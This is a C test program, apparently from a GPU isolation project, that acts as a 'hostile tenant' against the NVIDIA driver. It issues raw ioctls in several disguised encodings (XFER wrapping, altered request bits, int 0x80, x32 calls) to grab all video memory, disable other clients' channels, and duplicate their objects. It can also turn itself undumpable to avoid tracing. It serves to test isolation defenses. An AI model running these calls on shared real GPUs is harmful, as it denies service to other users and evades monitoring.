/* SPDX-License-Identifier: Apache-2.0 */
/*
 * raw - a hostile tenant. It links nothing of CUDA, calls the kernel directly, and tries to get
 * video memory, or its neighbours' channels and objects, by every spelling the driver understands.
 *
 *      gcc -O2 -static tests/gpu/raw.c -o raw
 *      raw [SPELLING] [--steps MiB] [--max MiB] [--device N]
 *              memory of class 0x40 until refused; then all of it is freed again
 *      raw --disable-foreign [CLIENT:CHANNEL]  switches a channel off and, if that worked, on again
 *      raw --dup CLIENT OBJECT                 takes a reference to somebody else's object
 *      raw --undumpable ...                    is not to be traced by those of its user
 *      raw --hold SECONDS ...                  keeps the memory for so long before it is freed
 *      raw --race ROUNDS --processes N         N clients allocate and free random sizes at once
 *
 * Spellings of the attempt (the set-up before it is ordinary):
 *      --plain    RM_ALLOC as CUDA sends it (default)
 *      --legacy   VID_HEAP_CONTROL function 2
 *      --xfer     RM_ALLOC inside an XFER request (nr 0xd3)
 *      --type     type byte, direction and upper half of the request changed; the driver looks at
 *                 none of them
 *      --i386     through int 0x80, the system calls of i386
 *      --x32      through the x32 numbers (most kernels have none: ENOSYS)
 *
 * Each attempt is a line, then comes a summary. `errno` is the system call's, `status` the RM's in
 * the block, -1 when the call did not come that far:
 *
 *      attempt n=1 spelling=plain mib=64 rc=0 errno=0 status=0x0
 *      raw got_mib=8128 n=127 rc=0 errno=0 status=0x51 total_mib=8192 free_mib=11
 *
 * Exit status: 0 when it came through, 2 when already the set-up failed (which is printed).
 *
 * Layouts: docs/rm-abi.md 1.3 to 1.5, release 580. Blocks lie below 4 GiB, so that a 32-bit
 * pointer reaches them.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <setjmp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MIB (1ull << 20)

/* With -DRAW_LIBC, not static, the recorder can see what this program says. */
#ifdef RAW_LIBC
#define IOCTL(fd, request, at) ioctl(fd, request, at)
#else
#define IOCTL(fd, request, at) syscall(SYS_ioctl, fd, request, at)
#endif

enum {
        NR_FREE = 0x29,
        NR_CONTROL = 0x2a,
        NR_ALLOC = 0x2b,
        NR_DUP = 0x34,
        NR_VID_HEAP = 0x4a,
        NR_REGISTER_FD = 0xc9,
        NR_XFER = 0xd3,

        CLASS_CLIENT = 0x41,
        CLASS_DEVICE = 0x80,
        CLASS_SUBDEVICE = 0x2080,
        CLASS_MEMORY = 0x40,

        I386_IOCTL = 54,
        X32_IOCTL = 0x40000000 + 514,

        H_DEVICE = 0x5c000002,
        H_SUBDEVICE = 0x5c000003,
        H_MEMORY = 0x5c100000, /* and following */
        N_MEMORY = 65536,
};

#define CONTROL_FB_INFO 0x20801303u
#define CONTROL_DISABLE_CHANNELS 0x2080110bu

/* What CUDA 13.0 asks for on release 580 (docs/rm-abi.md 2.2). */
#define MEMORY_FLAGS 0x1c101u
#define MEMORY_ATTR 0x11800000u
#define MEMORY_ATTR2 0x100005u

enum spelling {
        PLAIN,
        LEGACY,
        XFER,
        TYPE,
        I386,
        X32,
};

static const char *const spelling_names[] = { "plain", "legacy", "xfer", "type", "i386", "x32" };

static int ctl = -1;
static uint32_t client;
static unsigned char *block, *params, *outer; /* below 4 GiB */
static unsigned int hold_seconds;

/* Outcome of one driver call. */
struct outcome {
        long rc;
        int error;
        int64_t status;
};

static void put32(unsigned char *at, size_t offset, uint32_t value)
{
        memcpy(at + offset, &value, sizeof(value));
}

static void put64(unsigned char *at, size_t offset, uint64_t value)
{
        memcpy(at + offset, &value, sizeof(value));
}

static uint32_t get32(const unsigned char *at, size_t offset)
{
        uint32_t value;

        memcpy(&value, at + offset, sizeof(value));
        return value;
}

/* ---- the system call, spelled in several ways -------------------------------------------------- */

static sigjmp_buf no_int80;

static void on_fault(int number)
{
        (void)number;
        siglongjmp(no_int80, 1);
}

/* int 0x80 from 64-bit code: the i386 table, arguments cut to 32 bits. */
static long ioctl_i386(int fd, uint32_t request, void *at)
{
#ifdef __x86_64__
        struct sigaction action = { .sa_handler = on_fault }, old;
        long r = -ENOSYS;

        sigaction(SIGSEGV, &action, &old); /* a kernel without the i386 entry faults */
        if (!sigsetjmp(no_int80, 1))
                __asm__ volatile("int $0x80"
                                 : "=a"(r)
                                 : "a"(I386_IOCTL), "b"(fd), "c"(request), "d"(at)
                                 : "memory", "r8", "r9", "r10", "r11");
        sigaction(SIGSEGV, &old, NULL);
        r = (int32_t)r;
        if (r < 0 && r > -4096) {
                errno = (int)-r;
                return -1;
        }
        return r;
#else
        (void)fd, (void)request, (void)at;
        errno = ENOSYS;
        return -1;
#endif
}

static struct outcome driver(enum spelling spelling, int fd, unsigned int nr, size_t size, size_t status_at)
{
        static unsigned int turn;
        unsigned long request = _IOC(_IOC_READ | _IOC_WRITE, 'F', nr, size);
        struct outcome outcome = { .status = -1 };

        errno = 0;
        if (size >= 4)
                put32(block, status_at, 0xffffffffu);
        switch (spelling) {
        case PLAIN:
        case LEGACY:
                outcome.rc = IOCTL(fd, request, block);
                break;
        case XFER:
                put32(outer, 0, nr);
                put32(outer, 4, (uint32_t)size);
                put64(outer, 8, (uintptr_t)block);
                outcome.rc = IOCTL(fd, _IOC(_IOC_READ | _IOC_WRITE, 'F', NR_XFER, 16), outer);
                break;
        case TYPE:
                if (turn % 3 == 0)
                        request = _IOC(_IOC_READ | _IOC_WRITE, 'Z', nr, size);
                else if (turn % 3 == 1)
                        request = _IOC(_IOC_NONE, 0, nr, size);
                else
                        request |= 0xdeadbeefull << 32;
                turn++;
                outcome.rc = IOCTL(fd, request, block);
                break;
        case I386:
                outcome.rc = ioctl_i386(fd, (uint32_t)request, block);
                break;
        case X32:
                outcome.rc = syscall(X32_IOCTL, fd, request, block);
                break;
        }
        outcome.error = outcome.rc < 0 ? errno : 0;
        if (outcome.rc == 0 && get32(block, status_at) != 0xffffffffu)
                outcome.status = get32(block, status_at);
        return outcome;
}

static bool is_ok(const struct outcome *outcome)
{
        return outcome->rc == 0 && outcome->status == 0;
}

/* " rc=0 errno=0 status=0x51" and the line end. */
static void say_outcome(const struct outcome *outcome)
{
        printf(" rc=%ld errno=%d status=", outcome->rc, outcome->error);
        if (outcome->status < 0)
                printf("-1\n");
        else
                printf("0x%llx\n", (unsigned long long)outcome->status);
}

/* ---- the driver's calls ------------------------------------------------------------------------ */

/* RM_ALLOC; the parameters are already in `params`. */
static struct outcome rm_alloc(enum spelling spelling, uint32_t parent, uint32_t object, uint32_t class,
                               size_t params_size)
{
        memset(block, 0, 48);
        put32(block, 0, client);
        put32(block, 4, parent);
        put32(block, 8, object);
        put32(block, 12, class);
        put64(block, 16, (uintptr_t)params);
        put32(block, 32, (uint32_t)params_size);
        return driver(spelling, ctl, NR_ALLOC, 48, 40);
}

static struct outcome rm_control(uint32_t object, uint32_t command, size_t params_size)
{
        memset(block, 0, 32);
        put32(block, 0, client);
        put32(block, 4, object);
        put32(block, 8, command);
        put64(block, 16, (uintptr_t)params);
        put32(block, 24, (uint32_t)params_size);
        return driver(PLAIN, ctl, NR_CONTROL, 32, 28);
}

static struct outcome rm_free(uint32_t object)
{
        memset(block, 0, 16);
        put32(block, 0, client);
        put32(block, 4, H_DEVICE);
        put32(block, 8, object);
        return driver(PLAIN, ctl, NR_FREE, 16, 12);
}

static struct outcome memory_alloc(enum spelling spelling, uint32_t object, uint64_t bytes)
{
        if (spelling == LEGACY) {
                memset(block, 0, 184);
                put32(block, 0, client);
                put32(block, 4, H_DEVICE);
                put32(block, 8, 2);
                put32(block, 40, client);
                put32(block, 44, object);
                put32(block, 52, MEMORY_FLAGS);
                put32(block, 56, MEMORY_ATTR);
                put32(block, 60, 6); /* generic memory */
                put64(block, 88, bytes);
                put64(block, 96, 2 * MIB);
                put32(block, 144, MEMORY_ATTR2);
                return driver(spelling, ctl, NR_VID_HEAP, 184, 20);
        }
        memset(params, 0, 128);
        put32(params, 0, client);
        put32(params, 8, MEMORY_FLAGS);
        put32(params, 24, MEMORY_ATTR);
        put32(params, 28, MEMORY_ATTR2);
        put32(params, 32, 6); /* generic memory */
        put64(params, 64, bytes);
        put64(params, 72, 2 * MIB);
        put64(params, 88, bytes - 1);
        return rm_alloc(spelling, H_DEVICE, object, CLASS_MEMORY, 128);
}

static void info_read(uint64_t *ret_total_mib, uint64_t *ret_free_mib)
{
        struct outcome outcome;

        memset(params, 0, 1028);
        put32(params, 0, 2);
        put32(params, 4, 0x08);  /* total */
        put32(params, 12, 0x16); /* free */
        outcome = rm_control(H_SUBDEVICE, CONTROL_FB_INFO, 1028);
        *ret_total_mib = is_ok(&outcome) ? get32(params, 8) / 1024 : 0;
        *ret_free_mib = is_ok(&outcome) ? get32(params, 16) / 1024 : 0;
}

static void must(const char *what, struct outcome outcome)
{
        if (is_ok(&outcome))
                return;
        printf("setup=%s", what);
        say_outcome(&outcome);
        exit(2);
}

/* Through libc, so that a simulated machine can answer; nothing is decided at an open. */
static int node_open(const char *path)
{
        int fd = open(path, O_RDWR | O_CLOEXEC);

        if (fd < 0) {
                printf("setup=%s errno=%d\n", path, errno);
                exit(2);
        }
        return fd;
}

static void setup(unsigned int device)
{
        char path[32];
        struct outcome outcome;
        int node;

        block = mmap(NULL, 16384, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (block == MAP_FAILED) {
                printf("setup=mmap errno=%d\n", errno);
                exit(2);
        }
        params = block + 4096;
        outer = block + 12288;

        ctl = node_open("/dev/nvidiactl");
        (void)snprintf(path, sizeof(path), "/dev/nvidia%u", device);
        node = node_open(path);

        memset(params, 0, 4);
        must("client", rm_alloc(PLAIN, 0, 0, CLASS_CLIENT, 4));
        client = get32(block, 8);

        put32(block, 0, (uint32_t)ctl); /* no status in this one */
        outcome.rc = IOCTL(node, _IOC(_IOC_READ | _IOC_WRITE, 'F', NR_REGISTER_FD, 4), block);
        if (outcome.rc < 0) {
                printf("setup=register_fd errno=%d\n", errno);
                exit(2);
        }

        memset(params, 0, 56);
        put32(params, 0, device);
        must("device", rm_alloc(PLAIN, client, H_DEVICE, CLASS_DEVICE, 56));
        memset(params, 0, 4);
        must("subdevice", rm_alloc(PLAIN, H_DEVICE, H_SUBDEVICE, CLASS_SUBDEVICE, 4));
}

/* ---- the attacks ------------------------------------------------------------------------------- */

static int take_memory(enum spelling spelling, uint64_t step_mib, uint64_t max_mib)
{
        struct outcome outcome = { 0 }, freed = { 0 };
        uint64_t total, left;
        size_t n = 0, n_freed = 0;

        while (n < N_MEMORY && (!max_mib || (n + 1) * step_mib <= max_mib)) {
                outcome = memory_alloc(spelling, H_MEMORY + (uint32_t)n, step_mib * MIB);
                printf("attempt n=%zu spelling=%s mib=%llu", n + 1, spelling_names[spelling],
                       (unsigned long long)step_mib);
                say_outcome(&outcome);
                if (!is_ok(&outcome))
                        break;
                n++;
        }
        info_read(&total, &left);
        printf("raw got_mib=%llu n=%zu total_mib=%llu free_mib=%llu", (unsigned long long)(n * step_mib), n,
               (unsigned long long)total, (unsigned long long)left);
        say_outcome(&outcome);
        (void)sleep(hold_seconds);

        for (size_t i = 0; i < n; i++) {
                freed = rm_free(H_MEMORY + (uint32_t)i);
                n_freed += is_ok(&freed);
        }
        info_read(&total, &left);
        printf("freed n=%zu total_mib=%llu free_mib=%llu", n_freed, (unsigned long long)total,
               (unsigned long long)left);
        say_outcome(&freed);
        return 0;
}

/* What all racers have done together. */
struct race {
        _Atomic uint64_t n_ok, n_refused, n_other, n_freed;
};

/* One racer: its own client, a few pieces of random size held at a time. */
static void racer(unsigned int device, uint64_t n_rounds, uint64_t max_mib, unsigned int seed, struct race *race)
{
        enum { HELD = 4, NO_MEMORY = 0x51 };
        bool held[HELD] = { false };

        setup(device);
        for (uint64_t i = 0; i < n_rounds; i++) {
                unsigned int slot = (unsigned int)rand_r(&seed) % HELD;
                uint64_t mib = 2 + 2 * ((uint64_t)rand_r(&seed) % (max_mib / 2));
                struct outcome outcome;

                if (held[slot]) {
                        outcome = rm_free(H_MEMORY + slot);
                        race->n_freed += is_ok(&outcome);
                        held[slot] = false;
                }
                outcome = memory_alloc(PLAIN, H_MEMORY + slot, mib * MIB);
                held[slot] = is_ok(&outcome);
                race->n_ok += held[slot];
                race->n_refused += !held[slot] && outcome.status == NO_MEMORY;
                race->n_other += !held[slot] && outcome.status != NO_MEMORY;
        }
        for (unsigned int slot = 0; slot < HELD; slot++)
                if (held[slot]) {
                        struct outcome outcome = rm_free(H_MEMORY + slot);

                        race->n_freed += is_ok(&outcome);
                }
}

static int race_all(unsigned int device, unsigned int n_processes, uint64_t n_rounds, uint64_t max_mib)
{
        struct race *race = mmap(NULL, sizeof(*race), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        unsigned int n_bad = 0;
        int status;

        if (race == MAP_FAILED)
                return 3;
        for (unsigned int i = 0; i < n_processes; i++) {
                pid_t child = fork();

                if (child < 0)
                        return 3;
                if (child == 0) {
                        racer(device, n_rounds, max_mib, i + 1, race);
                        _exit(0);
                }
        }
        while (wait(&status) > 0)
                n_bad += status != 0;
        printf("race processes=%u rounds=%llu ok=%llu refused=%llu other=%llu freed=%llu bad=%u\n", n_processes,
               (unsigned long long)n_rounds, (unsigned long long)race->n_ok, (unsigned long long)race->n_refused,
               (unsigned long long)race->n_other, (unsigned long long)race->n_freed, n_bad);
        return n_bad || race->n_other || race->n_ok != race->n_freed ? 3 : 0;
}

static struct outcome switch_channel(uint32_t owner, uint32_t channel, bool is_disabled)
{
        memset(params, 0, 536);
        params[0] = is_disabled;
        put32(params, 4, 1);
        put32(params, 24, owner);
        put32(params, 280, channel);
        return rm_control(H_SUBDEVICE, CONTROL_DISABLE_CHANNELS, 536);
}

static int disable_foreign(uint32_t owner, uint32_t channel)
{
        struct outcome outcome = switch_channel(owner, channel, true);

        printf("disable client=%x channel=%x off", owner, channel);
        say_outcome(&outcome);
        if (!is_ok(&outcome))
                return 0;
        usleep(500000);
        outcome = switch_channel(owner, channel, false);
        printf("disable client=%x channel=%x on", owner, channel);
        say_outcome(&outcome);
        return 0;
}

static int dup_foreign(uint32_t owner, uint32_t object)
{
        struct outcome outcome;

        memset(block, 0, 28);
        put32(block, 0, client);
        put32(block, 4, H_DEVICE);
        put32(block, 8, H_MEMORY);
        put32(block, 12, owner);
        put32(block, 16, object);
        outcome = driver(PLAIN, ctl, NR_DUP, 28, 24);
        printf("dup client=%x object=%x", owner, object);
        say_outcome(&outcome);
        return 0;
}

int main(int argc, char **argv)
{
        enum {
                STEPS = 256,
                MAX,
                DEVICE,
                DISABLE,
                DUP,
                UNDUMPABLE,
                HOLD,
                RACE,
                PROCESSES,
        };
        static const struct option options[] = {
                { "plain", no_argument, NULL, PLAIN },
                { "legacy", no_argument, NULL, LEGACY },
                { "xfer", no_argument, NULL, XFER },
                { "type", no_argument, NULL, TYPE },
                { "i386", no_argument, NULL, I386 },
                { "x32", no_argument, NULL, X32 },
                { "steps", required_argument, NULL, STEPS },
                { "max", required_argument, NULL, MAX },
                { "device", required_argument, NULL, DEVICE },
                { "disable-foreign", optional_argument, NULL, DISABLE },
                { "dup", required_argument, NULL, DUP },
                { "undumpable", no_argument, NULL, UNDUMPABLE },
                { "hold", required_argument, NULL, HOLD },
                { "race", required_argument, NULL, RACE },
                { "processes", required_argument, NULL, PROCESSES },
                { 0 },
        };
        enum spelling spelling = PLAIN;
        uint64_t step_mib = 64, max_mib = 0, n_rounds = 0;
        unsigned int n_processes = 32, device = 0, owner = 0xc1d0ffff, object = 0x5c0000ff;
        bool disables = false, dups = false;
        int option;

        setvbuf(stdout, NULL, _IOLBF, 0);
        while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
                switch (option) {
                case PLAIN ... X32:
                        spelling = (enum spelling)option;
                        break;
                case STEPS:
                        step_mib = strtoull(optarg, NULL, 0);
                        break;
                case MAX:
                        max_mib = strtoull(optarg, NULL, 0);
                        break;
                case DEVICE:
                        device = (unsigned int)strtoul(optarg, NULL, 0);
                        break;
                case DISABLE:
                        disables = true;
                        if (!optarg && optind < argc && argv[optind][0] != '-')
                                optarg = argv[optind++];
                        if (optarg && sscanf(optarg, "%x:%x", &owner, &object) != 2)
                                goto usage;
                        break;
                case DUP:
                        dups = true;
                        owner = (unsigned int)strtoul(optarg, NULL, 16);
                        if (optind >= argc)
                                goto usage;
                        object = (unsigned int)strtoul(argv[optind++], NULL, 16);
                        break;
                case UNDUMPABLE:
                        (void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
                        break;
                case RACE:
                        n_rounds = strtoull(optarg, NULL, 0);
                        break;
                case PROCESSES:
                        n_processes = (unsigned int)strtoul(optarg, NULL, 0);
                        break;
                case HOLD:
                        hold_seconds = (unsigned int)strtoul(optarg, NULL, 0);
                        break;
                default:
                        goto usage;
                }
        }
        if (optind != argc || !step_mib)
                goto usage;
        if (n_rounds)
                return race_all(device, n_processes, n_rounds, max_mib ? max_mib : 256);
        setup(device);
        printf("client=%x device=%x subdevice=%x\n", client, (unsigned int)H_DEVICE, (unsigned int)H_SUBDEVICE);
        if (disables)
                return disable_foreign(owner, object);
        if (dups)
                return dup_foreign(owner, object);
        return take_memory(spelling, step_mib, max_mib);

usage:
        fprintf(stderr, "usage: raw [--plain|--legacy|--xfer|--type|--i386|--x32] [--steps MiB] [--max MiB] "
                        "[--device N] [--undumpable] [--hold SECONDS] | --race ROUNDS [--processes N] [--max MiB] | "
                        "--disable-foreign [CLIENT:CHANNEL] | --dup CLIENT OBJECT\n");
        return 2;
}
